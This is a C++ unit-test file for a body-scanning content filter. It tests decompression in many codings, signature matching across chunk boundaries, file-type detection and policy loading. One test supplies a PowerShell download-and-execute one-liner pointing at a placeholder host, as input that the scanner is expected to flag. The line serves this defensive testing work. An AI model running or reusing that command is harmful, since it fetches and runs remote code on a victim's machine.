// What is seen inside bodies: codings undone in any pieces, limits, signatures over cuts, types.
#include <brotli/encode.h>
#include <gtest/gtest.h>
#include <zlib.h>
#include <zstd.h>

#include <string>

#include "rules/content/body_scan.h"
#include "rules/load/content_policy.h"

namespace sluice::content {
namespace {

using model::ContentAction;

std::string deflated(const std::string& text, int window_bits) {
    z_stream z{};
    deflateInit2(&z, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY);
    std::string out(deflateBound(&z, text.size()) + 64, '\0');
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
    z.avail_in = static_cast<uInt>(text.size());
    z.next_out = reinterpret_cast<Bytef*>(out.data());
    z.avail_out = static_cast<uInt>(out.size());
    deflate(&z, Z_FINISH);
    out.resize(z.total_out);
    deflateEnd(&z);
    return out;
}
std::string gzip(const std::string& text) { return deflated(text, 15 + 16); }
std::string brotli(const std::string& text) {
    std::size_t size = BrotliEncoderMaxCompressedSize(text.size()) + 64;
    std::string out(size, '\0');
    BrotliEncoderCompress(5, 22, BROTLI_MODE_GENERIC, text.size(),
                          reinterpret_cast<const std::uint8_t*>(text.data()), &size,
                          reinterpret_cast<std::uint8_t*>(out.data()));
    out.resize(size);
    return out;
}
std::string zstd(const std::string& text) {
    std::string out(ZSTD_compressBound(text.size()), '\0');
    out.resize(ZSTD_compress(out.data(), out.size(), text.data(), text.size(), 3));
    return out;
}

std::unique_ptr<Rules> rules_with(model::ContentLimits limits = {}) {
    model::ContentPolicy policy;
    policy.limits = limits;
    policy.signatures = {{"bad", "t", "MALICE", "", ContentAction::block, "s", {}},
                         {"odd", "t", "", "od+ity[0-9]{2}", ContentAction::report, "s", {}}};
    policy.file_types = {{model::FileType::windows_program, ContentAction::block, "s"},
                         {model::FileType::pdf_document, ContentAction::report, "s"}};
    auto rules = Rules::compile(policy);
    EXPECT_TRUE(rules);
    return std::move(rules).value();
}

struct Outcome {
    bool blocked = false;
    std::string what;
    std::optional<Unread> unread;
    std::uint64_t decoded = 0;
};
Outcome scan(const Rules& rules, const std::string& coding, const std::string& body,
             std::size_t piece = ~std::size_t{0}) {
    BodyScan scan(rules, coding);
    Outcome outcome;
    const auto note = [&](const std::optional<Finding>& finding) {
        if (!finding) return;
        outcome.blocked = outcome.blocked || finding->action == ContentAction::block;
        outcome.what += finding->what + ' ';
    };
    for (std::size_t at = 0; at < body.size() && !outcome.blocked;
         at += std::min(piece, body.size() - at))
        note(scan.feed(as_bytes(std::string_view(body).substr(at, piece))));
    if (!outcome.blocked) note(scan.finish());
    outcome.unread = scan.unread();
    outcome.decoded = scan.decoded_bytes();
    return outcome;
}

TEST(BodyScan, FindsASignatureInEveryCodingAndCut) {
    const auto rules = rules_with();
    const std::string clean(50'000, 'c');
    const std::string bad = clean + "MALICE" + clean;
    const std::pair<std::string, std::string (*)(const std::string&)> codings[] = {
        {"", [](const std::string& t) { return t; }},
        {"identity", [](const std::string& t) { return t; }},
        {"gzip", gzip},
        {"X-GZIP", gzip},
        {"deflate", [](const std::string& t) { return deflated(t, 15); }},
        {"deflate", [](const std::string& t) { return deflated(t, -15); }},
        {"br", brotli},
        {"zstd", zstd},
        {"gzip, br", [](const std::string& t) { return brotli(gzip(t)); }}};
    for (const auto& [coding, encode] : codings)
        for (const std::size_t piece :
             {std::size_t{1}, std::size_t{13}, std::size_t{100'000'000}}) {
            SCOPED_TRACE(coding + " in pieces of " + std::to_string(piece));
            const Outcome found = scan(*rules, coding, encode(bad), piece);
            EXPECT_TRUE(found.blocked);
            EXPECT_EQ(found.what, "bad ");
            const Outcome fine = scan(*rules, coding, encode(clean), piece);
            EXPECT_FALSE(fine.blocked);
            EXPECT_FALSE(fine.unread);
            EXPECT_EQ(fine.decoded, clean.size());
        }
    EXPECT_EQ(rules->budget().used(), 0u) << "all memory was given back";
}

TEST(BodyScan, GzipMembersFollowOneAnotherAndPaddingIsNoDamage) {
    const auto rules = rules_with();
    EXPECT_TRUE(scan(*rules, "gzip", gzip("clean") + gzip("MALICE"), 3).blocked);
    EXPECT_FALSE(scan(*rules, "gzip", gzip("clean") + std::string(20, '\0')).unread);
}

TEST(BodyScan, ReportsOnceAndLooksOn) {
    const auto rules = rules_with();
    const Outcome found = scan(*rules, "", "oddity12 oddddity34 MALICE", 5);
    EXPECT_TRUE(found.blocked);
    EXPECT_EQ(found.what, "odd bad ");
}

TEST(BodyScan, SaysWhyItCannotLook) {
    const auto rules = rules_with();
    EXPECT_EQ(scan(*rules, "rot13", "x").unread, Unread::unknown_coding);
    EXPECT_EQ(scan(*rules, "gzip, gzip, gzip", "x").unread, Unread::too_many_codings);
    for (const char* coding : {"gzip", "br", "zstd"})
        EXPECT_EQ(scan(*rules, coding, std::string(100, '\xee')).unread, Unread::damaged) << coding;
    const auto small = rules_with({.decoded_mib_max = 1, .ratio_max = 50});
    EXPECT_EQ(scan(*small, "", std::string(2 << 20, 'x')).unread, Unread::too_large);
    const auto narrow = rules_with({.ratio_max = 50});
    for (auto* encode : {gzip, brotli, zstd})
        EXPECT_EQ(scan(*narrow,
                       encode == gzip     ? "gzip"
                       : encode == brotli ? "br"
                                          : "zstd",
                       encode(std::string(40 << 20, 'x')))
                      .unread,
                  Unread::ratio);
}

TEST(BodyScan, DecodersShareABudget) {
    model::ContentLimits limits;
    limits.memory_mib_max = 0;
    const auto rules = rules_with(limits);
    for (auto* encode : {gzip, brotli, zstd})
        EXPECT_EQ(scan(*rules,
                       encode == gzip     ? "gzip"
                       : encode == brotli ? "br"
                                          : "zstd",
                       encode("hello"))
                      .unread,
                  Unread::memory);
    EXPECT_EQ(rules->budget().used(), 0u);
}

std::string program() {
    std::string bytes(200, '\0');
    bytes.replace(0, 2, "MZ");
    bytes[0x3c] = static_cast<char>(0x80);
    bytes.replace(0x80, 2, "PE");
    return bytes;
}

TEST(BodyScan, JudgesTypesByFirstBytesOfWhatIsDecoded) {
    const auto rules = rules_with();
    for (const std::size_t piece : {1u, 64u, 1000u}) {
        EXPECT_EQ(scan(*rules, "gzip", gzip(program()), piece).what, "windows_program ");
        EXPECT_TRUE(scan(*rules, "", program() + std::string(5000, 'x'), piece).blocked);
        EXPECT_EQ(scan(*rules, "", "%PDF-1.7 tiny", piece).what, "pdf_document ");
        EXPECT_EQ(scan(*rules, "", "x" + program(), piece).what, "");
    }
}

TEST(FileType, IsToldByMagic) {
    using namespace std::string_view_literals;
    using model::FileType;
    const std::pair<std::string_view, FileType> cases[] = {
        {"\x7f"
         "ELF\x02"sv,
         FileType::elf_program},
        {"#!/bin/sh\n"sv, FileType::script},
        {"PK\x03\x04"sv, FileType::zip_archive},
        {"Rar!\x1a\x07\x01"sv, FileType::rar_archive},
        {"MZ"sv, FileType::dos_program},
        {"\xca\xfe\xba\xbe\0\0\0\x34"sv, FileType::java_class},
        {"\xca\xfe\xba\xbe\0\0\0\x02"sv, FileType::mac_program},
        {"%PDF-1"sv, FileType::pdf_document},
        {"\0asm\x01"sv, FileType::wasm_module},
        {"<html>"sv, FileType::unknown},
        {""sv, FileType::unknown},
        {"P"sv, FileType::unknown}};
    for (const auto& [bytes, type] : cases)
        EXPECT_EQ(file_type(as_bytes(bytes)), type) << bytes;
    EXPECT_EQ(file_type(as_bytes(program())), FileType::windows_program);
}

TEST(Rules, NameTheSignatureThatHyperscanRefuses) {
    model::ContentPolicy policy;
    policy.signatures = {{"a", "t", "fine", "", ContentAction::block, "s", {}},
                         {"b", "t", "", "(unclosed", ContentAction::block, "s", {}}};
    const auto refused = Rules::compile(policy);
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().signature, 1u);
}

TEST(ContentPolicy, TheShippedOneLoadsCompilesAndKnowsTheTestFile) {
    const auto loaded = load::load_content_policy_file(SLUICE_DATA_DIR "/content.yaml");
    for (const auto& d : loaded.diagnostics)
        ADD_FAILURE() << to_text(d);
    for (const auto& signature : loaded.value.signatures)
        EXPECT_FALSE(signature.source.empty()) << signature.id;
    const auto rules = Rules::compile(loaded.value);
    ASSERT_TRUE(rules);
    const std::string eicar = loaded.value.signatures[0].bytes;
    EXPECT_EQ(eicar.size(), 68u);
    EXPECT_TRUE(scan(**rules, "gzip", gzip(eicar)).blocked);
    EXPECT_EQ(scan(**rules, "", "IEX (New-Object Net.WebClient).DownloadString('http://x')").what,
              "powershell-download-run ");
}

TEST(ContentPolicy, EveryMistakeHasItsCodeAndPlace) {
    const auto shapes = [](const std::string& text) {
        std::string all;
        for (const auto& d : load::load_content_policy(text, "c.yaml").diagnostics)
            all += d.code + " " + std::to_string(d.line) + ":" + std::to_string(d.column) + ";";
        return all;
    };
    const std::string head = "signatures:\n- {id: a, title: t, action: block, source: s, ";
    EXPECT_EQ(shapes(head + "text: abcd}\n"), "");
    EXPECT_EQ(shapes(head + "text: abc}\n"), "too_short 2:53;");
    EXPECT_EQ(shapes(head + "hex: '4d 5a 9'}\n"), "bad_hex 2:52;");
    EXPECT_EQ(shapes(head + "hex: zz}\n"), "bad_hex 2:52;");
    EXPECT_EQ(shapes(head + "text: abcd, hex: 41414141}\n"), "one_of 2:3;");
    EXPECT_EQ(shapes("signatures:\n- {id: a, title: t, action: block, source: s}\n"),
              "one_of 2:3;");
    EXPECT_EQ(
        shapes(head + "text: abcd}\n- {id: a, title: t, action: report, source: s, text: efgh}\n"),
        "duplicate_id 3:8;");
    EXPECT_EQ(shapes(head + "text: abcd, more: 1}\n"), "unknown_key 2:59;");
    EXPECT_EQ(shapes("file_types: [{type: elf_program, action: stop, source: s}]\n"),
              "unknown_word 1:42;");
    EXPECT_EQ(shapes("limits: {ratio_max: 1}\n"), "out_of_range 1:21;");
}

}  // namespace
}  // namespace sluice::content
